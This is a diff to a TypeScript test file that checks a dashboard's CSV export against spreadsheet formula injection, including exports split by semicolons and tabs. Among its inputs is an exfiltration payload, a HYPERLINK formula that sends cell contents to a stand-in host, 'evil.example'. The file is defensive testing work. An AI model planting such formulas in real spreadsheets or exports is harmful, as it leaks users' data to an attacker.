@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import { readCsv } from '../../../src/core/csv.js';
 import { toCsv, toJson } from '../../../src/dashboard/data/exportRuns.js';
 import { manyRuns, sampleRun, workingDay } from '../../../stories/dashboard/sampleRuns.js';
 
@@ -8,7 +9,8 @@ const line = (run: Parameters<typeof toCsv>[0][number]): string => toCsv([run]).
 describe('an export', () => {
   test('as CSV has a mark of its encoding, a head and one line per run', () => {
     const csv = toCsv(manyRuns(30));
-    expect(csv.startsWith('\u{FEFF}runId,taskId,status,')).toBe(true);
+    const [first] = JSON.parse(toJson(manyRuns(1))) as object[];
+    expect(csv.split('\r\n')[0]).toBe(`\u{FEFF}${Object.keys(first!).join(',')}`);
     expect(csv.trimEnd().split('\r\n')).toHaveLength(31);
   });
 
@@ -24,8 +26,12 @@ describe('an export', () => {
     ['+1', "'+1"],
     ['-1', "'-1"],
     ['@SUM(A1)', "'@SUM(A1)"],
-    ['\t=1', "'\t=1"],
-    ['\n=1', `"'\n=1"`],
+    ['\t=1', `"'\t'=1"`],
+    ['\n=1', `"'\n'=1"`],
+    ['ok;=1+1', `"ok;'=1+1"`],
+    ['ok; "=1+1', `"ok;' ""=1+1"`],
+    ['one\n\n- two', `"one\n\n'- two"`],
+    ['one; two', '"one; two"'],
     ['＝1+1', "'＝1+1"],
     ['a, "b"\nc', '"a, ""b""\nc"'],
     ['plain', 'plain'],
@@ -33,6 +39,20 @@ describe('an export', () => {
     expect(line(sampleRun('completed', { result: { message } })).endsWith(`,${cell.split('\r\n')[0]}`)).toBe(
       true,
     );
+  });
+
+  // As Excel and LibreOffice of German, French or Arabic do.
+  test.each([';', '\t'])('is no formula either where cells are separated by %j', (separator) => {
+    const message = ['ok', '=HYPERLINK("https://evil.example/?"&A1', '"=1+1', 'a\n@SUM(1)', ' -1'].join(
+      separator,
+    );
+    const run = sampleRun('completed', { result: { message }, tags: [`a${separator}=1+1`] });
+    const cells = toCsv([run])
+      .slice(1)
+      .split(/\r?\n/)
+      .flatMap((each) => splitCells(each, separator));
+    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
+    expect(readCsv(toCsv([run]))?.map((cells) => cells.length)).toEqual([13, 13]);
   });
 
   test('carries no session id, which is a credential, in either form', () => {
@@ -49,3 +69,12 @@ describe('an export', () => {
     expect(list[0]).toMatchObject({ runId: 'run_queued_1', status: 'queued', costUsd: null });
   });
 });
+
+/** Splits a line as spreadsheets do: a quote counts at the start of a cell only, and what follows the closing one is text. */
+function splitCells(line: string, separator: string): string[] {
+  const [, start, rest = ''] = /^("(?:[^"]|"")*(?:"|$))?(.*)$/.exec(line) ?? [];
+  const at = rest.indexOf(separator);
+  const cell =
+    (start?.replace(/^"|"$/g, '').replaceAll('""', '"') ?? '') + (at < 0 ? rest : rest.slice(0, at));
+  return at < 0 ? [cell] : [cell, ...splitCells(rest.slice(at + 1), separator)];
+}
